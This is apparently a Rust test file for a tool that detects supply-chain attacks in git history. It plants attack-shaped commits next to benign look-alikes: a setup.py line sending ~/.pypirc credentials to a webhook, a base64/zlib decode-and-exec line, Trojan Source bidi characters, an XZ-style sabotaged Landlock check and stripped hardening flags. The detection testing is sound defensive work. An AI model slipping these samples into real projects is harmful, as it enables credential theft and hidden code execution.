//! Content-based signals end to end: commits made with real `git`, mined (diff hunks, content
//! scan), then judged by the rules. Each attack shape has a benign look-alike that must stay
//! quiet (no evidence from the rule, or only routine-weight evidence).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod common;

use common::*;
use garrison_history::rules::Evidence;
use garrison_history::{AnalyzeOptions, History, MineOptions, analyze, mine};
use garrison_report::Severity;

const START: i64 = 1_600_000_000;
const MAINTAINER: Who = Who {
    name: "Mara Maintainer",
    email: "mara@example.org",
};

/// The strongest evidence of `rule` (weight), if any.
fn weight(ev: &[Evidence], rule: &str) -> f64 {
    ev.iter()
        .filter(|e| e.rule.id == rule)
        .map(|e| e.weight)
        .fold(0.0, f64::max)
}

fn strongest<'a>(ev: &'a [Evidence], rule: &str) -> &'a Evidence {
    ev.iter()
        .filter(|e| e.rule.id == rule)
        .max_by(|a, b| a.weight.total_cmp(&b.weight))
        .unwrap_or_else(|| panic!("no {rule} evidence in {ev:#?}"))
}

const CMAKE: &str = r#"cmake_minimum_required(VERSION 3.14)
project(xzlike C)
include(CheckCSourceCompiles)
check_c_source_compiles("
    #include <sys/prctl.h>
    #include <linux/landlock.h>
    #include <sys/syscall.h>
    void my_sandbox(void)
    {
        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        (void)SYS_landlock_create_ruleset;
    }
    int main(void) { return 0; }
    "
    HAVE_LINUX_LANDLOCK)
set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
add_library(xzlike src/lib.c)
"#;

/// One repository, one commit per scenario; returns (history, ids by label).
fn build() -> (
    Repo,
    History,
    std::collections::BTreeMap<&'static str, String>,
) {
    let r = Repo::new();
    let mut ids = std::collections::BTreeMap::new();
    let mut t = START;
    let mut next = || {
        t += DAY;
        utc(t)
    };
    r.write("CMakeLists.txt", CMAKE);
    r.write("src/lib.c", "int f(void) { return 1; }\n");
    r.write(
        "setup.py",
        "from setuptools import setup\nsetup(name='pkg')\n",
    );
    r.write("pkg/__init__.py", "VERSION = '1.0'\n");
    r.write(".gitignore", "*.pyc\n");
    r.write(
        "SECURITY.md",
        "# Security\n\nReport vulnerabilities privately to security@example.org.\nWe answer within 7 days.\n",
    );
    r.write("requirements.txt", "numpy==2.0.0\n");
    ids.insert("root", r.commit("initial import", MAINTAINER, next()));

    let mut step = |label: &'static str, msg: &str, f: &dyn Fn(&Repo)| {
        f(&r);
        let id = r.commit(msg, MAINTAINER, next());
        ids.insert(label, id);
    };

    // --- attack shapes ---
    step("ignore_m4", "Build: ignore generated files", &|r| {
        r.append(".gitignore", "build-to-host.m4\nm4/*.m4\n")
    });
    step("stray_dot", "CMake: fix the Landlock check", &|r| {
        r.write(
            "CMakeLists.txt",
            CMAKE.replace("    void my_sandbox(void)", ".\n    void my_sandbox(void)"),
        )
    });
    step("decode_exec", "setup: tidy", &|r| {
        r.append(
            "setup.py",
            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
        )
    });
    step("bidi", "core: access check", &|r| {
        r.write(
            "pkg/access.py",
            "def is_admin(level):\n    return level == \"user\u{202E} \u{2066}# admin only\u{2069} \u{2066}\"\n",
        )
    });
    step("constructor", "lib: init tables early", &|r| {
        r.append(
            "src/lib.c",
            "static void __attribute__((constructor)) init_tables(void) { }\n",
        )
    });
    step("exfil", "setup: report install stats", &|r| {
        r.append(
            "setup.py",
            "import os, requests\nrequests.post('https://discord.com/api/webhooks/123/abc', data=open(os.path.expanduser('~/.pypirc')).read())\n",
        )
    });
    step("contact", "SECURITY: new contact", &|r| {
        r.write(
            "SECURITY.md",
            "# Security\n\nReport vulnerabilities privately to jt.helper@example.net.\nWe answer within 7 days.\n",
        )
    });
    step("export_ignore", "attributes: smaller tarballs", &|r| {
        r.write(".gitattributes", "*.m4 export-ignore\n")
    });
    step("hardening", "CMake: simplify flags", &|r| {
        let now = std::fs::read_to_string(r.path().join("CMakeLists.txt")).unwrap();
        r.write(
            "CMakeLists.txt",
            now.replace(" -fstack-protector-strong -D_FORTIFY_SOURCE=2", ""),
        )
    });

    // --- benign look-alikes ---
    step("ignore_routine", "gitignore: build outputs", &|r| {
        r.append(".gitignore", "build/\ndist/\n*.egg-info\n__pycache__/\n")
    });
    step("eval_lookalike", "core: evaluation helpers", &|r| {
        r.write(
            "pkg/evaluate.py",
            "import ast\n\ndef run(model, s):\n    model.eval()\n    return ast.literal_eval(s)\n",
        )
    });
    step("git_describe", "setup: version from git", &|r| {
        r.append(
            "setup.py",
            "import subprocess\nVERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True).stdout\n",
        )
    });
    step("hashes", "requirements: hashes", &|r| {
        r.write(
            "requirements.txt",
            "numpy==2.0.0 \\\n    --hash=sha256:9a5f0a1e8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e\n",
        )
    });
    step("cmake_unrelated", "CMake: add a source", &|r| {
        r.append(
            "CMakeLists.txt",
            "target_sources(xzlike PRIVATE src/extra.c)\n",
        )
    });
    step("policy_grows", "SECURITY: supported versions", &|r| {
        r.append(
            "SECURITY.md",
            "\n## Supported versions\n\nThe latest minor release.\n",
        )
    });
    let h = mine(r.path(), &MineOptions::default()).unwrap();
    assert!(h.warnings.is_empty(), "{:?}", h.warnings);
    (r, h, ids)
}

#[test]
fn attack_shapes_fire_and_look_alikes_stay_quiet() {
    if !git_ok() {
        eprintln!("git missing: skipped");
        return;
    }
    let (_r, h, ids) = build();
    let ev = |label: &str| change_evidence(&h, &ids[label]);

    // .gitignore hiding a build macro (the XZ trigger lived in such a file).
    let e = ev("ignore_m4");
    let s = strongest(&e, "history/ignore-rules-hide-files");
    assert_eq!(s.weight, 5.0, "{s:?}");
    assert!(s.message.contains(".gitignore"), "{}", s.message);
    assert!(s.message.contains("build-to-host.m4"), "{}", s.message);
    assert_eq!(s.path.as_deref(), Some(".gitignore"));
    assert_eq!(s.line, Some(2));

    // A stray `.` inside the Landlock feature probe.
    let e = ev("stray_dot");
    let s = strongest(&e, "history/build-system-change");
    assert!(s.weight >= 4.0, "{s:?}");
    assert!(s.message.contains("CMakeLists.txt"), "{}", s.message);

    // Decode then execute in setup.py.
    let e = ev("decode_exec");
    let s = strongest(&e, "history/obfuscated-code");
    assert_eq!(s.weight, 8.0);
    assert_eq!((s.path.as_deref(), s.line), (Some("setup.py"), Some(4)));

    // Trojan Source: the excerpt shows the invisible controls.
    let e = ev("bidi");
    let s = strongest(&e, "history/trojan-source");
    assert_eq!(s.weight, 7.0);
    assert!(s.message.contains("<U+202E>"), "{}", s.message);

    // A C constructor.
    let e = ev("constructor");
    assert_eq!(weight(&e, "history/c-hooking"), 4.0, "{e:#?}");

    // Exfiltration from setup.py: network at build time, a webhook, a credential store.
    let e = ev("exfil");
    assert!(weight(&e, "history/exfiltration") >= 4.0, "{e:#?}");

    // Security contact replaced.
    let e = ev("contact");
    let s = strongest(&e, "history/security-policy-weakened");
    assert_eq!(s.weight, 4.0);
    assert!(s.message.contains("jt.helper@example.net"), "{}", s.message);

    // export-ignore drops build inputs from `git archive` tarballs.
    let e = ev("export_ignore");
    assert!(
        weight(&e, "history/ignore-rules-hide-files") >= 3.0,
        "{e:#?}"
    );

    // Hardening flags removed.
    let e = ev("hardening");
    let s = strongest(&e, "history/build-system-change");
    assert_eq!(s.weight, 4.0, "{s:?}");
    assert!(s.message.contains("weakened"), "{}", s.message);

    // --- look-alikes ---
    let e = ev("ignore_routine");
    assert!(
        weight(&e, "history/ignore-rules-hide-files") < 0.5,
        "{e:#?}"
    );
    let e = ev("eval_lookalike");
    assert_eq!(weight(&e, "history/obfuscated-code"), 0.0, "{e:#?}");
    let e = ev("git_describe");
    assert!(weight(&e, "history/build-system-change") <= 0.3, "{e:#?}");
    assert_eq!(weight(&e, "history/exfiltration"), 0.0, "{e:#?}");
    let e = ev("hashes");
    assert_eq!(weight(&e, "history/obfuscated-code"), 0.0, "{e:#?}");
    let e = ev("cmake_unrelated");
    assert!(weight(&e, "history/build-system-change") < 1.0, "{e:#?}");
    let e = ev("policy_grows");
    assert_eq!(
        weight(&e, "history/security-policy-weakened"),
        0.0,
        "{e:#?}"
    );

    // Ranked: every attack commit is reported at low or above, no look-alike above info.
    let a = analyze(&h, &AnalyzeOptions::default());
    for label in [
        "ignore_m4",
        "stray_dot",
        "decode_exec",
        "bidi",
        "constructor",
        "exfil",
        "contact",
        "export_ignore",
        "hardening",
    ] {
        let s = a
            .commits
            .iter()
            .find(|c| c.id == ids[label])
            .unwrap_or_else(|| panic!("{label} not reported"));
        assert!(s.severity >= Severity::Low, "{label}: {}", s.score);
    }
    for label in [
        "ignore_routine",
        "eval_lookalike",
        "git_describe",
        "hashes",
        "cmake_unrelated",
        "policy_grows",
    ] {
        let s = a.commits.iter().find(|c| c.id == ids[label]);
        assert!(
            s.is_none_or(|s| s.severity == Severity::Info),
            "{label}: {:?}",
            s.map(|s| s.score)
        );
    }
}
